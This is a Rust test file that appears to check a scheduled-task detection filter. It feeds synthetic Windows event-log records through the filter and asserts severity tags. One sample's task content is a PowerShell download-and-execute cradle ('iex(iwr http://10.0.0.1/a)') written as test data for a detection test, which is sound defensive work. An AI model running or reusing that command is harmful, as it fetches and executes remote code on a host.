//! Windows event logs: the events of a file get the tags that they get from a pipeline.

use schtag_host::records::EventLog;
use schtag_tests::event_log::{Event, file, file_of_templates};
use schtag_tests::filter::{self, Filter};
use schtag_tests::samples::Sample;

fn event(number: u64, id: u32, sample: &Sample) -> Event {
    let content = if id == 4702 { "TaskContentNew" } else { "TaskContent" };
    let data = vec![
        ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104".to_owned()),
        ("SubjectUserName", sample.user.clone()),
        ("SubjectDomainName", "CORP".to_owned()),
        ("SubjectLogonId", "0x3144c".to_owned()),
        ("TaskName", sample.task_name.clone()),
        (content, sample.content.clone()),
    ];
    Event { number, id, at: 1_700_000_000 + number, data }
}

#[test]
fn the_events_of_a_log_are_judged() {
    let malicious = Sample::new(4698, "powershell.exe", "-nop -w 1 -c iex(iwr http://10.0.0.1/a)");
    let benign = Sample {
        task_name: r"\Clean".into(),
        ..Sample::new(4698, r"C:\Windows\System32\cleanmgr.exe", "/autoclean")
    };
    let deleted = Sample { content: String::new(), ..malicious.clone() };
    let updated = Sample { event_id: 4702, ..malicious.clone() };
    let chunks = [
        vec![event(1, 4698, &malicious), event(2, 4698, &benign), event(3, 4624, &benign)],
        vec![event(4, 4699, &deleted)],
        vec![event(5, 4702, &updated)],
    ];
    // The deletion, which has no content, completes a sequence.
    let expected = [(1, "high"), (2, "none"), (3, "none"), (4, "medium"), (5, "high")]
        .map(|(number, severity)| (number, severity.to_owned()));
    assert_eq!(verdicts(&file(&chunks)), expected);
    assert_eq!(verdicts(&file_of_templates(&chunks)), expected);
}

/// The numbers of a log's events with what they are judged to be.
fn verdicts(bytes: &[u8]) -> Vec<(u64, String)> {
    let mut filter = Filter::new(&filter::module().unwrap()).unwrap();
    let mut log = EventLog::new(Box::new(bytes)).unwrap();
    let mut verdicts = Vec::new();
    loop {
        let more = log.next_chunk(|event| {
            let event = event.map_err(|damage| damage.to_string())?;
            assert_eq!(u64::from(event.time.seconds), 1_700_000_000 + event.number);
            let record = String::from_utf8(event.json).unwrap();
            assert!(!record.contains('\n'));
            let tag = filter.tag(&record, 0)?;
            verdicts.push((event.number, tag["severity"].as_str().unwrap_or("none").to_owned()));
            Ok::<(), String>(())
        });
        if !more.unwrap().unwrap() {
            break;
        }
    }
    verdicts
}
